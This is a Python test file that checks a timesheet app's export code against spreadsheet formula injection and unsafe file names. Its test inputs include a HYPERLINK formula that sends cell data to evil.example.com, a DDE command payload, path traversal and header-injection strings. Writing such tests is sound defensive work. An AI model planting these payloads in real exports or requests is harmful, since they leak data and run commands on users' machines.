"""T45: text exported to a spreadsheet stays text."""

from __future__ import annotations

import re
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from timesheet.domain.export_text import FORMULA, cell_text, file_name

HARMLESS = (
    "",
    "PAY-12",
    "Refund = broken",
    "1.5",
    "a-b",
    "'quoted",
    "→ =1",
    "Straße",
    "日本語",
    "two\nlines",
)
DANGEROUS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example.com?"&A1)',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u2066=1",
    "\t=1",
    "\n=1",
    "\tx",
    "\nx",
)


@pytest.mark.parametrize("text", HARMLESS)
def test_t45_what_is_not_a_formula_stays_as_it_is(text: str) -> None:
    assert cell_text(text) == text


@pytest.mark.parametrize("text", DANGEROUS)
def test_t45_what_could_be_a_formula_is_marked_as_text(text: str) -> None:
    assert cell_text(text) == f"'{text}"


@pytest.mark.parametrize("text", ["\r=1", "\x00=1", "\x1b=1", "\x7f=1", "\ud800=1", "\x85=1"])
def test_t45_a_formula_behind_what_a_file_cannot_hold_is_found(text: str) -> None:
    assert cell_text(text) == "'=1"


def test_what_a_file_cannot_hold_is_left_out() -> None:
    assert cell_text("a\x00b\x0bc\rd\ud800e\x9ff") == "abcdef"


@given(st.text())
def test_t45_no_cell_starts_a_formula_and_twice_is_once(text: str) -> None:
    cell = cell_text(text)
    assert cell.strip()[:1] not in FORMULA
    assert not re.match(r"[\s\x00-\x1f]*[=+\-@]", cell)
    assert cell_text(cell) == cell
    cell.encode("utf-8")


def test_what_starts_no_formula_is_left_alone() -> None:
    plain = sorted(set(string.printable) - FORMULA - set(string.whitespace))
    assert [cell_text(char) for char in plain] == plain
    assert cell_text(" \u200bX=1") == " \u200bX=1"


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("X-x", "X-x.csv"),
        ("Berlin 2026", "Berlin-2026.csv"),
        ("Übersicht", "Übersicht.csv"),
        ("山田 太郎", "山田-太郎.csv"),
        ("フォーマット／Ａ", "フォーマット-A.csv"),
        ("हिन्दी टीम", "हिन्दी-टीम.csv"),
        ("Łukasz Weiß", "Łukasz-Weiß.csv"),
        ("a\u202eb\u2068c", "a-b-c.csv"),
        ("📅", "export.csv"),
        ("", "export.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ('a"; filename="b.exe', "a-filename-b-exe.csv"),
        ("a\r\nSet-Cookie: x=1", "a-Set-Cookie-x-1.csv"),
        ("CON.txt", "CON-txt.csv"),
        ("x" * 300, "x" * 40 + ".csv"),
    ],
)
def test_a_file_name_is_plain(title: str, name: str) -> None:
    assert file_name(title, "csv") == name


@given(st.text())
def test_a_file_name_fits_into_a_header_and_a_folder(title: str) -> None:
    name = file_name(title, "ics")
    assert not set(name) & set('/\\:*?"<>|% ')
    assert name.isprintable()
    assert not name.startswith((".", "-"))
    assert len(name.encode()) <= 200


def test_a_long_title_leaves_the_rest_of_a_file_name_whole() -> None:
    name = file_name("決済" * 60, "xlsx", "2026-11-16 2026-11-22 不完全")
    assert name == f"{'決済' * 20}-2026-11-16-2026-11-22-不完全.xlsx"
    assert file_name("", "csv", "2026-11") == "2026-11.csv"
